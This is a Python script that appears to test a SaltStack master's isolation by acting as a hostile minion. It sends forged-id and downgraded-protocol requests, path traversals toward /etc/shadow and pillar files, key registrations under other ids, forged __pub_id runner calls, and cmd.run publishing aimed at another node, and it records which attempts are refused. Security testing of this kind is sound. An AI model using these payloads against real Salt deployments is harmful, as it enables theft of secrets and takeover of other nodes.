"""A hostile minion against its master: raw requests under its own key, with forged ids, to every door that there is.

Runs on the node with Salt's interpreter. Argument: the id of another node.
"""

from __future__ import annotations

import json
import sys
import time
import uuid
from collections.abc import Callable
from typing import Any

import salt.channel.client
import salt.config
import salt.exceptions
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

OTHER = sys.argv[1]
OPTS = salt.config.minion_config("/etc/salt/minion")
OPTS["master_uri"], ME = f"tcp://{OPTS['master']}:4506", OPTS["id"]
REFUSALS = (salt.exceptions.SaltException, OSError, ValueError, TypeError, KeyError, RuntimeError)
JOURNAL = "var/lib/saltern/journal.sqlite"
SEEN: dict[str, Any] = {}


def attempt(name: str, trial: Callable[[], Any]) -> None:
    try:
        SEEN[name] = trial()
    except REFUSALS as error:
        SEEN[name] = f"refused: {type(error).__name__}"


def ask(command: str, **load: Any) -> Any:
    """An encrypted request under this node's own id."""
    with salt.channel.client.ReqChannel.factory(OPTS) as channel:
        return channel.send({"cmd": command, **load}, tries=1, timeout=15)


def ask_in_clear(command: str, **load: Any) -> Any:
    with salt.channel.client.ReqChannel.factory(OPTS, crypt="clear") as channel:
        return channel.send({"cmd": command, **load}, tries=1, timeout=15)


def ask_as(inner: str, outer: str, version: int, command: str, **load: Any) -> Any:
    """The same with forged ids inside and outside of the encryption, or an older protocol."""
    with salt.channel.client.ReqChannel.factory(OPTS) as channel:
        channel.send({"cmd": "_file_envs"}, tries=1, timeout=15)  # logs in
        real = getattr(channel, "obj", channel)

        def package(load: dict[str, Any], nonce: str | None = None, session_crypticle: Any = None) -> dict[str, Any]:
            proof = {"tok": real.auth.gen_token(b"salt"), "nonce": nonce or uuid.uuid4().hex, "ts": int(time.time())}
            cipher = real.auth.session_crypticle if version > 2 else real.auth.crypticle
            sealed = cipher.dumps({**load, **proof, "id": inner})
            return {"enc": "aes", "load": sealed, "version": version, "id": outer}

        real._package_load = package
        return channel.send({"cmd": command, **load}, tries=1, timeout=8)


def pillar(**load: Any) -> Any:
    """The names of the secrets in the answer."""
    with salt.channel.client.ReqChannel.factory(OPTS) as channel:
        asked = {"cmd": "_pillar", "id": ME, "grains": {}, "saltenv": "base", "ver": "2", **load}
        answer = channel.crypted_transfer_decode_dictentry(asked, dictkey="pillar", tries=1, timeout=15)
    return [answer["saltern"]["node"]["id"], sorted(answer["saltern"]["secrets"])]


def public_key() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
    return key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()


def introduce(node: str, key: str) -> Any:
    """Asks to be let in under an id. The answer names the session's key only where the master accepted."""
    opts = {**OPTS, "id": node}
    load = {"id": node, "nonce": uuid.uuid4().hex, "pub": key}
    load |= {"enc_algo": OPTS["encryption_algorithm"], "sig_algo": OPTS["signing_algorithm"]}
    with salt.channel.client.ReqChannel.factory(opts, crypt="clear") as channel:
        answer = channel.send({"cmd": "_auth", **load}, tries=1, timeout=15)
    return "aes" in str(answer)


def sign(*arguments: Any, fun: str = "member.sign", **load: Any) -> Any:
    return ask("minion_runner", fun=fun, arg=list(arguments), **load)


def request(application: str, csr: str = "x") -> list[dict[str, str]]:
    return [{"application": application, "name": application, "csr": csr}]


def against_pillars() -> None:
    lies = {"id": OTHER, "role": ["vault", "consul-server"]}
    attempt("pillar with another's grains", lambda: pillar(grains=lies))
    override = {"saltern": {"node": {"id": OTHER}, "secrets": {}}}
    attempt("pillar by extra data", lambda: pillar(extra_minion_data={"id": OTHER}, ext={"cmd_yaml": "id"}))
    attempt("pillar from another environment", lambda: pillar(pillarenv="../../", saltenv="__env__"))
    attempt("pillar override changes itself alone", lambda: pillar(pillar_override=override)[1])


def against_identities() -> None:
    loads: dict[str, dict[str, Any]] = {
        "_pillar": {"grains": {}, "saltenv": "base", "ver": "2"},
        "minion_runner": {"fun": "member.sign", "arg": [request("consul")]},
        "_return": {"jid": "20260101000000000001", "return": 1, "fun": "test.ping"},
        "_minion_event": {"tag": "forged", "data": {}},
    }
    attempt("control: the own id", lambda: ask_as(ME, ME, 3, "_file_envs"))
    for command, load in loads.items():
        forged = {"inner": (OTHER, ME, 3), "outer": (ME, OTHER, 3), "both": (OTHER, OTHER, 3)}
        old = {"protocol 2": (ME, ME, 2), "protocol 0": (OTHER, OTHER, 0)}
        for how, (inner, outer, version) in (forged | old).items():
            attempt(
                f"identity {command} {how}",
                lambda a=inner, b=outer, v=version, c=command, d=load: ask_as(a, b, v, c, **d),
            )


def against_keys() -> None:
    with open(f"{OPTS['pki_dir']}/minion.pub", encoding="ascii") as file:
        own = file.read()
    attempt("control: the own key", lambda: introduce(ME, own))
    for node in (OTHER, "support", "support_master", "ghost-000001", "../../../../tmp/forged", "a/b", "x" * 300, ME):
        attempt(f"key new as {node[:24]}", lambda one=node: introduce(one, public_key()))
    for node in (OTHER, "support", "ghost-000002"):
        attempt(f"key replayed as {node}", lambda one=node: introduce(one, own))


def against_runners() -> None:
    for fun in ("cluster.custody", "ca.roots", "salt.cmd", "manage.up", "xmember.sign", "memberXsign", "member.sign.x"):
        attempt(f"runner {fun}", lambda one=fun: sign(fun=one))
    attempt("runner with a line end", lambda: sign(request("consul"), fun="member.sign\n"))
    attempt("sign for another", lambda: sign(request("consul"), id=OTHER))
    attempt("sign a foreign profile", lambda: sign(request("vault")))
    attempt("sign another root", lambda: sign([{"application": "consul", "name": "vault", "csr": "x"}]))
    attempt("sign a path", lambda: sign([{"application": "../support", "name": "support", "csr": "x"}]))
    attempt("sign something huge", lambda: sign(request("consul", "A" * 3_000_000)))
    attempt("sign seventeen", lambda: sign(request("consul") * 17))
    attempt("sign one twice", lambda: sign(request("consul") * 2))
    attempt("sign nothing", sign)
    forged = {"__kwarg__": True, "__pub_id": OTHER, "id": OTHER, "__opts__": {"id": OTHER}}
    attempt("sign with a forged __pub_id", lambda: "BEGIN" in str(sign(request("vault"), forged)))
    attempt("sign with arguments as text", lambda: "BEGIN" in str(sign("requests=[]", f"__pub_id={OTHER}")))
    for command in ("publish", "runner", "wheel", "mk_token", "get_token", "_prep_auth_info", "_update_aes"):
        load = {"fun": "key.list_all", "arg": [], "tgt": "*", "user": "root", "key": "", "kwarg": {}, "token": "../x"}
        attempt(f"in clear {command}", lambda one=command, two=load: ask_in_clear(one, **two))
        eauth = {**load, "eauth": "pam", "username": "root", "password": "x"}
        attempt(f"by password {command}", lambda one=command, two=eauth: ask_in_clear(one, **two))


def against_files() -> None:
    attempt(
        "control: a file", lambda: "base:" in str(ask("_serve_file", path="top.sls", saltenv="base", loc=0, gzip=0))
    )
    for path in (
        "../pillar/cluster/cluster.yaml",
        "..//pillar/pki/roots.yaml",
        "_utils/../../pillar/top.sls",
        "/etc/shadow",
        "../../../etc/shadow",
        f"_utils/../../../../{JOURNAL}",
        "|../pillar/top.sls",
    ):
        for environment in ("base", "../../pillar", "__env__"):
            load = {"path": path, "saltenv": environment, "loc": 0, "gzip": 0}
            attempt(f"file {environment} {path}", lambda one=load: ask("_serve_file", **one)["data"])
    for command in ("_file_list", "_dir_list", "_symlink_list"):
        attempt(f"list {command}", lambda one=command: list(ask(one, saltenv="base", prefix="../pillar")))
    attempt("list environments", lambda: ask("_file_envs"))
    attempt("upload", lambda: ask("_file_recv", path=["forged"], loc=0, data=b"x", size=1))


def against_the_bus() -> None:
    publish = {"fun": "cmd.run", "arg": ["id"], "tgt": OTHER, "ret": "", "tmo": 1}
    for command in ("minion_pub", "minion_publish"):
        attempt(f"publish {command}", lambda one=command: ask(one, **publish))
    ask("_mine", data={"forged": 1})
    attempt("mine", lambda: ask("_mine_get", tgt="*", fun="forged"))
    attempt("return of another's job", lambda: ask("pub_ret", jid="../../../../../etc/hostname"))
    attempt("revoke another's key", lambda: ask("revoke_auth", id=OTHER) is True)
    attempt("revoke the own key", lambda: ask("revoke_auth") is True)
    jid = "2026010100000000000"
    where = "../../../../../../../srv/saltern/salt/forged"
    attempt("return outside", lambda: ask("_return", jid=f"{jid}2", fun="x", **{"return": 1}, resource_id=where))
    attempt(
        "syndic outside", lambda: ask("_syndic_return", jid=f"{jid}3", fun="x", **{"return": {where: {"return": 1}}})
    )
    attempt(
        "event outside", lambda: ask("_minion_event", events=[{"tag": "a/b", "data": {"minions": ["f"], "jid": where}}])
    )
    attempt(
        "event key",
        lambda: ask("_minion_event", tag="salt/key", data={"act": "accept", "id": "ghost-000001", "result": True}),
    )
    attempt("event aes", lambda: ask("_minion_event", tag="key", data={"rotate_aes_key": True}))
    attempt("master's options", lambda: sorted(ask("_master_opts")["file_roots"].items()))


for part in (against_pillars, against_identities, against_runners, against_files, against_the_bus, against_keys):
    part()
print(json.dumps(SEEN, default=repr))
